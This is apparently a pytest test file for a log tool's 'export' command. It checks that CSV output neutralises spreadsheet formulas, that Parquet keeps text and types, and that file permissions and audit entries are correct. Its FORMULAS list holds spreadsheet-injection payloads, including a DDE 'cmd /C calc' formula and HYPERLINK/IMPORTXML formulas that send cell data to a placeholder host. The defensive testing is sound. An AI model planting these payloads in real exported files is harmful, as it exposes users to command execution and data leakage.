"""`export` as it is called: CSV that runs nothing in a spreadsheet, Parquet that keeps every text."""

import csv
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from cascadewatch.spreadsheet import TRIGGERS
from tests.cli.conftest import Result, Run
from tests.dashboard.hostile import STRINGS

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1", "\u00a0=1+1",
    "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")', "=IMPORTXML(CONCAT(\"http://example.invalid\"),\"//a\")",
    "@import", "+44 20 7946 0000", "-", "=", "'=1+1", '"=1+1"', 'a","=1+1', "a;=1+1", "a\r\n=1+1", "a\n=1+1",
)  # fmt: skip
HOSTILE = (*FORMULAS, *STRINGS)


@pytest.fixture
def hostile(run: Run, tmp_path: Path, event: Callable[..., dict[str, Any]]) -> list[str]:
    """Events whose every name is an attack; the routes in the order of their times."""
    assert len(HOSTILE) == 40
    (tmp_path / "cascadewatch.toml").write_text('caller_ids = "plain"\n')
    lines = []
    for n, text in enumerate(HOSTILE):
        one = event(n, route=text, caller=text, session=text, revision=text, tags={"t": text})
        one["time"] = datetime.fromtimestamp(1_795_000_000 + n, UTC).isoformat()
        for attempt in one["attempts"]:
            attempt["model"] = text
        lines.append(json.dumps(one))
    (tmp_path / "hostile.jsonl").write_text("\n".join(lines))
    assert run("ingest", "hostile.jsonl").json["accepted"] == 40
    return list(HOSTILE)


def cells(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8", newline="") as text:
        return list(csv.reader(text, strict=True))


@pytest.mark.parametrize("what", ["events", "attempts", "rollups", "tiers.quarter", "callers"])
def test_no_cell_of_csv_can_run(run: Run, hostile: list[str], what: str) -> None:
    said = run("export", "--what", what, "--output", "out.csv", "--json").json
    rows = cells(Path("out.csv"))
    assert len(rows) == said["rows"] + 1 > len(hostile)
    assert {len(row) for row in rows} == {len(rows[0])}, "a text may not become two cells"
    bare = {cell.lstrip(" \u00a0\u200b\ufeff") for row in rows for cell in row}
    assert [cell for cell in bare if cell.startswith(TRIGGERS)] == []


def test_each_text_is_there_with_at_most_an_apostrophe_more(run: Run, hostile: list[str]) -> None:
    run("export", "--what", "events", "--output", "out.csv")
    head, *rows = cells(Path("out.csv"))
    for name in ("route", "caller", "session", "revision"):
        shown = [row[head.index(name)] for row in rows]
        assert [s in (text, f"'{text}") for s, text in zip(shown, hostile, strict=True)] == [True] * 40


def test_lines_end_and_quotes_are_doubled_as_rfc_4180_has_it(run: Run, hostile: list[str]) -> None:
    run("export", "--what", "annotations", "--output", "out.csv")
    assert Path("out.csv").read_bytes() == b"time,cascade,route,kind,text,author\r\n"
    run("export", "--what", "events", "--output", "out.csv")
    assert b'"a"",""=1+1"' in Path("out.csv").read_bytes()


def test_parquet_keeps_every_text_and_says_what_is_a_number(run: Run, hostile: list[str]) -> None:
    import pyarrow as pa
    from pyarrow import parquet

    run("export", "--what", "events", "--output", "out.parquet")
    table = parquet.read_table("out.parquet")
    assert table.column("route").to_pylist() == hostile
    types = {name: table.schema.field(name).type for name in ("cost_usd", "escalations", "escalated", "time")}
    assert types == {
        "cost_usd": pa.float64(), "escalations": pa.int64(), "escalated": pa.bool_(),
        "time": pa.timestamp("ms", tz="UTC"),
    }  # fmt: skip
    assert table.column("cost_usd").to_pylist() == [0.021] * 40
    assert table.column("time")[3].as_py() == datetime.fromtimestamp(1_795_000_003, UTC)


def test_an_empty_parquet_file_has_its_columns(run: Run) -> None:
    from pyarrow import parquet

    run("export", "--what", "episodes", "--output", "out.parquet")
    table = parquet.read_table("out.parquet")
    assert (table.num_rows, table.column_names[:2]) == (0, ["id", "rule"])


def test_numbers_stay_numbers_and_the_unknown_is_empty(run: Run, log_file: Path) -> None:
    run("ingest", log_file)
    run("export", "--what", "events", "--output", "out.csv")
    head, row, *_ = cells(Path("out.csv"))
    shown = dict(zip(head, row, strict=True))
    assert (float(shown["cost_usd"]), shown["escalated"], shown["escalations"]) == (0.021, "true", "1")
    assert (shown["latency_ms"], shown["caller"], shown["cause"]) == ("", "", "")


def test_without_a_file_rows_go_to_stdout_alone(run_apart: Run, log_file: Path) -> None:
    assert run_apart("ingest", log_file).code == 0
    plain: Result = run_apart("export", "--what", "events")
    assert (plain.code, plain.err) == (0, "")
    assert len(plain.out.splitlines()) == 11


def test_a_range_and_a_cascade_narrow_it(run: Run, log_file: Path) -> None:
    run("ingest", log_file)

    def rows(*more: str) -> int:
        return int(run("export", "--what", "events", "--output", "o.csv", "--json", *more).json["rows"])

    assert (rows(), rows("--since", "2h"), rows("--since", "1m")) == (10, 10, 0)
    assert (rows("--to", "2026-01-01"), rows("--from", "2026-01-01")) == (0, 10)
    assert (rows("--cascade", "support"), rows("--cascade", "other")) == (10, 0)


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["--what", "evnts"], "did you mean events?"),
        (["--what", "events", "--json"], "--json needs --output FILE"),
        (["--what", "events", "--output", "no/where.csv"], "create it first"),
        (["--what", "events", "--since", "soon"], "--since"),
    ],
)
def test_what_cannot_be_done_is_said_before_anything_is_written(
    run: Run, tmp_path: Path, arguments: list[str], said: str
) -> None:
    result = run("export", *arguments)
    assert result.code == 2
    assert said in result.err
    assert list(tmp_path.glob("*.csv")) == []


def test_a_file_that_is_there_is_replaced_whole(run: Run, tmp_path: Path, log_file: Path) -> None:
    (tmp_path / "out.csv").write_text("old")
    run("ingest", log_file)
    assert run("export", "--what", "events", "--output", "out.csv").code == 0
    assert (tmp_path / "out.csv").read_text().startswith("id,source,")
    assert list(tmp_path.glob(".*partial")) == []


@pytest.mark.parametrize("name", ["out.csv", "out.parquet"])
def test_a_file_is_for_its_owners_eyes_alone(run: Run, tmp_path: Path, log_file: Path, name: str) -> None:
    run("ingest", str(log_file))
    run("export", "--what", "callers", "--output", name)
    assert (tmp_path / name).stat().st_mode & 0o777 == 0o600


def test_each_export_is_in_the_audit(run: Run, tmp_path: Path, log_file: Path, now: int) -> None:
    from cascadewatch.settings import load
    from cascadewatch.store.audit import acts
    from cascadewatch.store.opening import open_store

    run("ingest", log_file)
    run("export", "--what", "events", "--output", "out.csv", "--cascade", "support")
    store = open_store(load(), now)
    with store.reading() as connection:
        found = [act for act in acts(connection) if act.act == "export"]
    store.close()
    assert len(found) == 1
    assert (found[0].subject, found[0].via) == ("events", "command")
    assert found[0].after == {"rows": 10, "cascade": "support", "to": "out.csv"}
